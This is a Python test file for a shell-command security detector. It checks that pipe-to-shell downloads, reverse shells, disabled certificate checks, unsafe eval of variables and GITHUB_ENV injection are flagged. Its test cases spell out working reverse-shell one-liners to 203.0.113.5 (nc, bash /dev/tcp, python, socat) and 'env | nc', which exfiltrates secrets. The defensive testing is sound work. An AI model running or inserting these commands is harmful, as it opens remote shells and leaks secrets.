from __future__ import annotations

import pytest
from harness import ends
from hypothesis import given
from hypothesis import strategies as st

from guardrail.formats.shell import (
    DETECTIONS,
    checkouts,
    environment_from_file,
    evaluated,
    expanded_variables,
    may_evaluate,
    pipelines,
    remote_pipe,
    reverse_shell,
    skips_verification,
)
from guardrail.formats.shell_commands import heredocs


@pytest.mark.parametrize(
    "code",
    [
        "curl https://x | sh",
        "curl -sSfL https://x | sudo -E bash -",
        "curl -s https://x | sudo -u build bash",
        "curl 'https://x?a=1&b=2;c' | bash -s -- --yes",
        "wget -qO- https://x | bash -x",
        "curl https://x | sh -e",
        "curl https://x \\\n  | \\\n  sh",
        "curl https://x | tee log | bash",
        "set -e; curl https://x|python3 -",
        "curl https://x | python3",
        "if ! command -v a; then curl https://x | sh; fi",
        "bash <(curl -s https://x)",
        "source <(curl -s https://x)",
        'bash -c "$(curl -fsSL https://x)"',
        'sh -c "$(wget -qO- https://x)" -- -y',
        'eval "$(curl https://x)"',
        'ssh host "curl https://x | sh"',
        "sudo bash -c 'curl https://x | sh'",
        'echo "$(curl https://x)" | bash',
        "cat <<EOF\nit's\nEOF\ncurl https://x | sh\n",
        "iwr https://x | iex",
        "irm https://x -UseBasicParsing | Invoke-Expression",
        "iex ((New-Object System.Net.WebClient).DownloadString('https://x'))",
        "curl https://x | FOO=1 /bin/sh 2>/dev/null",
        "curl https://x |& sh >& log",
    ],
)
def test_downloads_that_are_run(code: str) -> None:
    assert remote_pipe(code)


@pytest.mark.parametrize(
    "code",
    [
        "curl https://x -o file",
        "curl https://x | tar xz",
        "curl https://x | jq -r .y",
        "curl https://x | python3 -m json.tool",
        "curl https://x | python3 -c 'import json'",
        "curl https://x | perl -ne 'print'",
        "curl https://x | bash script.sh",
        "curl https://x | sudo tee /etc/apt/sources.list",
        "# curl https://x | sh",
        "echo 'curl https://x | sh'",
        "apt-get install curl; cat script | sh",
        "curl https://x && bash other.sh",
        "curl https://x\nsh run.sh",
        "echo curl-wget | sh",
    ],
)
def test_downloads_that_are_not(code: str) -> None:
    assert remote_pipe(code) is None


def test_a_remote_pipe_knows_where_it_is() -> None:
    code = "set -e\n  curl https://x | sh -s -- a; ls"
    found = remote_pipe(code)
    assert found is not None
    assert code[slice(*found)] == "curl https://x | sh -s -- a"


def test_checkouts() -> None:
    code = "gh pr checkout 5\ngit fetch origin pull/7/head\ngit checkout main\ngit log\n"
    assert [(command.text, plainly) for command, plainly in checkouts(code)] == [
        ("gh pr checkout 5", True),
        ("git fetch origin pull/7/head", True),
        ("git checkout main", False),
    ]


@pytest.mark.parametrize(
    ("code", "later", "found"),
    [
        ("git fetch origin pull/7/head:pr\ngit diff --name-only main...pr", [], 0),
        ("git fetch origin pull/7/head\ngit log FETCH_HEAD", ["make", "git status"], 0),
        ("git fetch origin pull/7/head:pr && git checkout pr", [], 2),
        ("git checkout main\ngit -C x fetch --depth=1 origin pull/7/head", [], 1),
        ("git fetch origin pull/7/head", ["cd x\ngit merge FETCH_HEAD"], 1),
        ("git checkout fetch", [], 1),
    ],
)
def test_what_is_only_fetched_is_not_checked_out(code: str, later: list[str], found: int) -> None:
    assert len(list(checkouts(code, later))) == found


def test_code_that_is_evaluated() -> None:
    code = "eval \"a $ONE\"\nbash -ec \"$TWO ${THREE}\"\nsh -c 'x $FOUR'\necho $FIVE"
    names = [name for _, arguments in evaluated(code) for name in expanded_variables(arguments)]
    assert names == ["ONE", "TWO", "THREE"]


@pytest.mark.parametrize("code", [
    'echo "$M" | bash', 'printf %s "$M" | sudo sh -x', 'echo "x $M" | ssh -T deploy@host', 'bash <<< "$M"',
    'su - app -c "echo $M"', 'su app --command="echo $M"', "ssh host <<EOF\necho '$M'\nEOF\necho $N",
    "ssh -o BatchMode=yes -p 22 u@h 'bash -s' <<-EOF\n# $M\n\tEOF", "cat <<EOF | bash\necho \"$M\nEOF\n",
    "bash -s -- x <<EOF\n$M\nEOF", "docker exec -i web sh <<EOF\n$M\nEOF",
    "kubectl exec -i p -- bash -e <<EOF\n$M\nEOF",
    "python3 <<EOF\nprint('$M')\nEOF", 'echo "$M" | su - app', "sshpass -p x ssh u@h << EOF\n$M\nEOF",
    'ssh host "./answer \'$M\'"', 'timeout 5 bash -lc "$M"',
])  # fmt: skip
def test_code_that_comes_another_way(code: str) -> None:
    names = [name for _, text in evaluated(code) for name in expanded_variables(text)]
    assert names == ["M"]
    assert may_evaluate(code)


@pytest.mark.parametrize("code", [
    "ssh host <<'EOF'\necho $M\nEOF", "bash <<\\EOF\necho $M\nEOF", "bash <<EOF\necho \\$M\nEOF",
    "echo '$M' | bash", 'echo "$M" | ssh host "cat > file"', 'echo "$M" | python3 -m json.tool',
    'echo "$M" | sh script.sh', "cat <<EOF\n$M\nEOF\nbash", "psql <<EOF\n$M\nEOF", 'echo "$M" | tr -cd a-z | bash',
    'echo "$M" || bash', 'cat <<< "$M"', 'docker exec -i web sh x.sh <<EOF\n$M\nEOF', 'su - app "$M"',
])  # fmt: skip
def test_what_is_only_data(code: str) -> None:
    assert [name for _, text in evaluated(code) for name in expanded_variables(text)] == []


def test_a_here_string_is_no_document() -> None:
    assert heredocs('cat <<< "word"\necho x\n') == []


@given(st.text(alphabet="curl |shbas\"'$()<>`\\\n;&#- =", max_size=80))
def test_any_code_can_be_looked_at(code: str) -> None:
    remote_pipe("curl " + code)
    list(checkouts("git " + code))
    list(evaluated("eval " + code))
    for stages in pipelines(code):
        for command in stages:
            assert 0 <= command.start <= command.end <= len(code)


@pytest.mark.parametrize(
    "code",
    [
        "curl -k https://x.example/a",
        "curl -fsSLk https://x.example/a -o a",
        "curl -o a --insecure https://x.example/a",
        "wget -q --no-check-certificate https://x.example/a",
        "pip install --trusted-host pypi.example -r requirements.txt",
        "npm config set strict-ssl false",
        "git config --global http.sslVerify false",
        "git -c http.sslVerify=false clone https://x.example/a",
        "export NODE_TLS_REJECT_UNAUTHORIZED=0",
        "GIT_SSL_NO_VERIFY=true git clone https://x.example/a",
        "sudo apt-get install -y --allow-unauthenticated tool",
        "yum install -y --nogpgcheck tool",
        "apk add --allow-untrusted tool.apk",
        "kubectl --insecure-skip-tls-verify get pods",
        "ssh -o StrictHostKeyChecking=no deploy@host.example",
        "Invoke-WebRequest -Uri https://x.io/y -SkipCertificateCheck",
        "[Net.ServicePointManager]::ServerCertificateValidationCallback = {$true}",
    ],
)
def test_checks_that_are_turned_off(code: str) -> None:
    assert skips_verification(code)


@pytest.mark.parametrize(
    "code",
    [
        "curl https://x.example/a -o k",
        "curl --keepalive-time 2 https://x.example",
        "curl -k https://localhost:8443/health",
        "curl -fsk https://127.0.0.1/ready",
        "# curl -k https://x.example",
        "echo 'never use curl -k https://x.example'",
        "ssh -o StrictHostKeyChecking=accept-new host.example",
        "npm config set strict-ssl true",
        "export NODE_TLS_REJECT_UNAUTHORIZED=1",
        "apt-get install -y tool",
        "irm https://x.io/y -SkipCertificateCheck:$false",
    ],
)
def test_checks_that_stay_on(code: str) -> None:
    assert skips_verification(code) is None


@pytest.mark.parametrize(
    "code",
    [
        "nc -e /bin/sh 203.0.113.5 4444",
        "python3 -c 'import socket,pty;s=socket.socket();s.connect((\"203.0.113.5\",9));pty.spawn(\"/bin/sh\")'",
        "ruby -rsocket -e 'f=TCPSocket.open(\"203.0.113.5\",99).to_i;exec sprintf(\"/bin/sh -i <&%d\",f)'",
        "php -r '$s=fsockopen(\"203.0.113.5\",99);exec(\"/bin/sh -i <&3 >&3\");'",
        "ncat 203.0.113.5 4444 --exec /bin/bash",
        "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
        "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.5 4444 > /tmp/f",
        "env | nc 203.0.113.5 80",
        "socat exec:'bash -li',pty tcp:203.0.113.5:4444",
    ],
)
def test_shells_for_others(code: str) -> None:
    assert reverse_shell(code)


@pytest.mark.parametrize(
    "code",
    [
        "nc -z 127.0.0.1 5432",
        "until nc -z db 5432; do sleep 1; done",
        "while ! nc -w 2 10.0.0.5 5432; do sleep 1; done",
        "echo ruok | nc 127.0.0.1 2181",
        "rsync -e ssh a host:",
        "python -c 'import socket; socket.create_connection((\"db\", 5432))' && sh -c 'make'",
        "python -c 'import socket; s = socket.socket(); s.connect((\"db\", 5432))'",
        "python connect.py --shell /bin/sh",
        "(echo > /dev/tcp/localhost/5432) && echo up",
        "# bash -i >& /dev/tcp/203.0.113.5/4444",
        "func() { true; }",
    ],
)
def test_shells_for_oneself(code: str) -> None:
    assert reverse_shell(code) is None


def test_looking_takes_time_in_proportion_to_the_code() -> None:

    with ends():
        for unit in ("curl -fs ", "git a ", "nc 1 ", "pip x ", "sh -i ", "curl x | ", "\"'"):
            for _, find in DETECTIONS:
                find(unit * 8000)


@pytest.mark.parametrize(
    ("code", "found"),
    [
        ('cat a >> "$GITHUB_ENV"', True),
        ('ls\necho "N=$(cat a)" >> $GITHUB_ENV', True),
        ('echo "N=$(< a)" >> "${GITHUB_ENV}"', True),
        ("head -1 a | tee -a $GITHUB_PATH", True),
        ('echo "A=b" >> "$GITHUB_ENV"', False),
        ('echo "DATE=$(date)" >> "$GITHUB_ENV"', False),
        ('cat a; echo "A=b" >> "$GITHUB_ENV"', False),
        ('cat <<EOF >> "$GITHUB_ENV"\nA=b\nEOF', False),
        ('cat a >> "$GITHUB_OUTPUT"', False),
    ],
)
def test_environments_that_are_filled_from_files(code: str, found: bool) -> None:
    assert (environment_from_file(code) is not None) is found
